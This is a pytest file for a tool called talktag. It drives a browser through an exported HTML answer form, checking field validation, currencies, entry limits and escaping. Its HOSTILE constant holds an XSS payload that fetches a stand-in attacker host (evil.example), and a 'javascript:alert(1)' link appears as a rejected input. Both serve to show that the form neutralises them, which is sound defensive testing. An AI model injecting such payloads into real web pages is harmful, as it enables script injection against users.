"""The form for an answer, all the way: exported, filled in with a real browser, and taken in as what nobody signed."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from talktag.bundle.document import parse

if TYPE_CHECKING:
    from tests.kit.browser import Browser, Page
    from tests.kit.computer import Computer

pytestmark = pytest.mark.quick

HOSTILE = '"><img src=x onerror=alert(1)></script><script>document.title="owned";fetch("http://evil.example/")</script>'
STAYS = ("bundle", "created")  # what differs between two answers that say the same


def exported(computer: Computer, *words: str, ref: str = "canon") -> Path:
    computer.ok("export", ref, "--to", "fix-it", "--with-form", "-o", "canon.zip", "--yes", *words)
    return computer.folder / "canon-answer.html"


def opened(browser: Browser, form: Path) -> Page:
    """The form as a shop opens it: somewhere else, with nothing beside it."""
    elsewhere = form.parent / "elsewhere"
    elsewhere.mkdir()
    return browser.open(Path(shutil.copy(form, elsewhere)), elsewhere)


def tab_to(page: Page, ident: str) -> None:
    """Press Tab until what has that id has the focus."""
    for _ in range(60):
        page.press("Tab")
        if page.value("document.activeElement.id") == ident:
            return
    pytest.fail(f"no Tab leads to {ident}")


def saved_answer(page: Page, form: Path) -> bytes:
    return (form.parent / "elsewhere" / page.saved()).read_bytes()


def essence(answer: bytes) -> dict[str, Any]:
    return {key: value for key, value in parse(answer, signed=False).values().items() if key not in STAYS}


def test_what_is_filled_in_with_nothing_but_keys_comes_back_into_the_record_marked_as_unsigned(
    computer: Computer, browser: Browser
) -> None:
    form = exported(computer, "--purpose", "crack in the eyepiece")
    page = opened(browser, form)
    assert page.value("document.activeElement === document.body")
    tab_to(page, "contact")
    page.type("bench@fixit.example")
    tab_to(page, "title-1")
    page.type("replaced eyepiece")
    tab_to(page, "text-1")
    page.type("It was cracked.\nПроверено: “good” 👍")
    tab_to(page, "cost-1")
    page.type("80 eur")
    tab_to(page, "add")
    page.press("Space")
    assert page.value("document.activeElement.id") == "kind-2"
    page.press("ArrowDown", 2)  # service, check, reading
    tab_to(page, "title-2")
    page.type("shutter count 18342")
    page.press("Enter")
    bundle = json.loads((computer.folder / "elsewhere" / (name := page.saved())).read_text())["in_reply_to"]["bundle"]
    assert name == f"answer-{bundle}.json"
    done = computer.run("receive", f"elsewhere/{name}", "--unsigned", "--yes")
    assert done.code == 0, done.err
    log = computer.json("show", "canon")["data"]["entries"]
    first, second = (each for each in log if each["kind"] != "share")
    said = {key: first[key] for key in ("kind", "title", "text", "cost", "party", "signer")}
    assert said == {
        "kind": "service",
        "title": "replaced eyepiece",
        "text": "It was cracked.\nПроверено: “good” 👍",
        "cost": "80.00 EUR",
        "party": "fix-it-cameras",
        "signer": "unsigned",
    }
    assert (second["kind"], second["title"], second["signer"]) == ("reading", "shutter count 18342", "unsigned")
    assert computer.ok("doctor") == "nothing found: all is well\n"
    # For ever: where the record goes from here, the mark goes too.
    computer.ok("export", "canon", "--to", "fix-it", "-o", "next.zip", "--yes")
    told = computer.json("verify", "next.zip")["data"]["product"]["entries"]
    assert [each["signer"] for each in told] == ["unsigned"]


def test_the_file_is_what_the_program_writes_for_the_same_words(computer: Computer, browser: Browser) -> None:
    form = exported(computer)
    page = opened(browser, form)
    for ident, text in {
        "name": "Çam & Söhne",
        "contact": "by telephone",
        "title-1": 'says "clean" \\ done',
        "cost-1": "80,5 chf",
        "text-1": "one\n\ttwo\u2028three",
    }.items():
        page.fill(ident, text)
    page.value("document.getElementById('due-1').value = '2028-02-29'")
    page.press("Tab")
    page.value("document.getElementById('make').click()")
    answer = saved_answer(page, form)
    words = ("--service", 'says "clean" \\ done', "--cost", "80.5 CHF", "--due", "2028-02-29", "--name", "Çam & Söhne")
    more = ("--contact", "by telephone", "--text", "one\n\ttwo\u2028three", "--unsigned", "-o", "reply.json")
    computer.ok("reply", "canon.zip", *words, *more)
    written = (computer.folder / "reply.json").read_bytes()
    assert essence(answer) == essence(written)
    changed = [(a, b) for a, b in zip(answer.splitlines(), written.splitlines(), strict=True) if a != b]
    assert all(a.split(b":")[0] == b.split(b":")[0] in {b' "bundle"', b' "created"'} for a, b in changed)
    assert answer.isascii()


def test_a_cost_without_a_currency_is_in_that_of_the_owner_which_stands_beside_it(
    computer: Computer, browser: Browser
) -> None:
    settings = computer.things / "talktag.toml"
    settings.write_text(settings.read_text() + '\n[defaults]\ncurrency = "CHF"\n')
    computer.ok("save", "--yes")
    told = computer.json("export", "canon", "--to", "fix-it", "--with-form", "--language", "es", "-o", "es.zip", "-n")
    assert told["data"]["form_currency"] == "CHF"
    form = exported(computer, "--language", "es")
    page = opened(browser, form)
    label = page.value("document.querySelector('label[for=cost-1]').innerText")
    assert "en CHF si no se indica moneda" in label
    page.fill("title-1", "limpiado")
    page.fill("cost-1", "1.234,5")
    assert page.value("document.querySelector('#entries output').innerText") == "= 1234.50 CHF"
    page.value("document.getElementById('make').click()")
    assert essence(saved_answer(page, form))["product"]["entries"][0]["cost"] == "1234.50 CHF"


def test_hostile_names_are_only_names(computer: Computer, browser: Browser) -> None:
    computer.ok("add", HOSTILE, "--maker", HOSTILE)
    computer.ok("party", "set", "fix-it", f"name={HOSTILE}")
    settings = computer.things / "talktag.toml"
    owner = next(line for line in settings.read_text().splitlines() if line.startswith("name ="))
    settings.write_text(settings.read_text().replace(owner, f"name = '{HOSTILE}'"))
    computer.ok("save", "--yes")
    slug = computer.json("list", "src")["data"]["products"][0]["slug"]
    computer.ok(
        "export", slug, "--to", "fix-it-cameras", "--with-form", "--purpose", HOSTILE, "--terms", HOSTILE, "-o",
        "canon.zip", "--yes",
    )  # fmt: skip
    page = opened(browser, form := computer.folder / "canon-answer.html")
    title = f"A form for your answer: {HOSTILE}"
    assert page.value("document.title") == title
    assert page.value("document.querySelector('h1').textContent") == HOSTILE
    assert page.value("document.getElementById('name').value") == HOSTILE
    page.fill("title-1", HOSTILE)
    page.value("document.getElementById('make').click()")
    answer = essence(saved_answer(page, form))
    assert answer["product"]["name"] == answer["product"]["entries"][0]["title"] == HOSTILE
    assert page.value("document.title") == title
    assert page.value("document.querySelectorAll('img, script[src], iframe').length") == 0
    assert page.happened("Page.javascriptDialogOpening") == []
    assert page.happened("Log.entryAdded") == []  # nothing was even tried that the policy had to stop
    requested = {each["request"]["url"].partition(":")[0] for each in page.happened("Network.requestWillBeSent")}
    assert requested <= {"file", "blob", "data"}  # of the browser's own, such as the arrow of a list


NO_COST = 'Entry 1: write the cost as an amount in one currency, like "80.00 EUR", without a minus.'
FAULTS = [
    ("name", " ", "Your name is missing."),
    ("title-1", "", "Entry 1: say in one line what it is about."),
    ("cost-1", "eighty", NO_COST),
    ("cost-1", "1.234 EUR", NO_COST),
    ("cost-1", "-3 EUR", NO_COST),
    ("cost-1", "80 XYZ", NO_COST),
    ("date-1", "", "Entry 1: the date is missing or not in the calendar."),
    ("link", "javascript:alert(1)", "Entry 1: the address has to start with https:// or http:// and have no blanks."),
]


def test_what_a_reader_would_refuse_is_said_at_its_place_and_saves_nothing(
    computer: Computer, browser: Browser
) -> None:
    page = opened(browser, exported(computer))
    page.fill("title-1", "cleaned")
    for ident, text, said in FAULTS:
        if ident == "link":
            page.value("document.getElementById('kind-1').value = 'link'")
        at = "title-1" if ident == "link" else ident
        before = page.value(f"document.getElementById('{at}').value")
        page.value(f"document.getElementById('{at}').value = {json.dumps(text)}")
        page.value("document.getElementById('make').click()")
        assert page.value("document.querySelector('#faults ul').innerText") == said
        assert page.value("document.activeElement.id") == "faults"
        page.press("Tab")
        page.press("Enter")
        assert page.value("document.activeElement.id") == at
        assert page.value("document.querySelector('[aria-invalid]').id") == at
        assert page.value("document.getElementById('made').hidden")
        page.value(f"document.getElementById('{at}').value = {json.dumps(before)}")
    assert not page.has_saved
    page.value("document.getElementById('kind-1').value = 'service'; document.getElementById('make').click()")
    assert page.saved().startswith("answer-")


def test_the_same_words_twice_are_one_answer_and_other_words_another(computer: Computer, browser: Browser) -> None:
    form = exported(computer)
    page = opened(browser, form)
    page.fill("title-1", "cleaned")
    bundles = []
    for more in (None, None, "and oiled"):
        if more:
            page.fill("text-1", more)
            assert page.value("document.getElementById('made').hidden")
        page.value("document.getElementById('make').click()")
        bundles.append(parse(saved_answer(page, form), signed=False).bundle)
    assert bundles[0] == bundles[1] != bundles[2]
    assert page.value("document.getElementById('text').value.includes('and oiled')")


def test_the_form_offers_what_the_role_may_write(computer: Computer, browser: Browser) -> None:
    computer.ok("party", "set", "fix-it", "role=insurer")
    page = opened(browser, exported(computer))
    offered = page.value("Array.from(document.getElementById('kind-1').options, each => each.value)")
    assert offered == ["check", "claim", "message"]


def test_as_many_entries_as_a_reader_takes_and_each_can_be_taken_out(computer: Computer, browser: Browser) -> None:
    form = exported(computer)
    page = opened(browser, form)
    page.value("for (let i = 0; i < 60; i++) document.getElementById('add').click()")
    assert page.value("document.querySelectorAll('#entries > fieldset').length") == 50
    assert page.value("document.getElementById('add').hidden")
    page.value("document.querySelectorAll('[name=title]').forEach((each, at) => { each.value = 'step ' + (at + 1) })")
    page.value("document.querySelector('#entries button').click()")
    page.value("document.getElementById('make').click()")
    entries = essence(saved_answer(page, form))["product"]["entries"]
    assert [each["title"] for each in entries] == [f"step {number}" for number in range(2, 51)]
    page.value("document.querySelectorAll('[name=text]').forEach(each => { each.value = 'é'.repeat(9000) })")
    page.value("document.getElementById('make').click()")
    assert "too long" in page.value("document.getElementById('faults').innerText")


def test_where_there_is_no_place_for_a_form_none_is_made(computer: Computer) -> None:
    for words, said in (
        (("-o", "-"), "the form lies beside the bundle"),
        (("-o", "canon.zip.age", "--encrypt"), "the form would say in the clear what --encrypt hides"),
    ):
        done = computer.run("export", "canon", "--to", "fix-it", "--with-form", *words, "--yes")
        assert (done.code, done.out) == (2, "")
        assert said in done.err
    done = computer.run("export", "--as", "csv", "--with-form", "-o", "all.csv")
    assert (done.code, "--with-form is for what is handed to a party" in done.err) == (2, True)


def test_bundle_and_form_are_both_made_or_neither(computer: Computer) -> None:
    (computer.folder / "canon-answer.html").mkdir()
    before = computer.state[0]
    done = computer.run("export", "canon", "--to", "fix-it", "--with-form", "-o", "canon.zip", "--yes")
    assert (done.code, computer.state[0]) == (2, before)
    assert not (computer.folder / "canon.zip").exists()
    (computer.folder / "canon-answer.html").rmdir()
    told = computer.json("export", "canon", "--to", "fix-it", "--with-form", "-o", "canon.zip", "--yes")["data"]
    assert (told["file"], told["form"]) == ("canon.zip", "canon-answer.html")
    assert (computer.folder / "canon.zip").exists()
    assert told["signed"] in (computer.folder / "canon-answer.html").read_text()
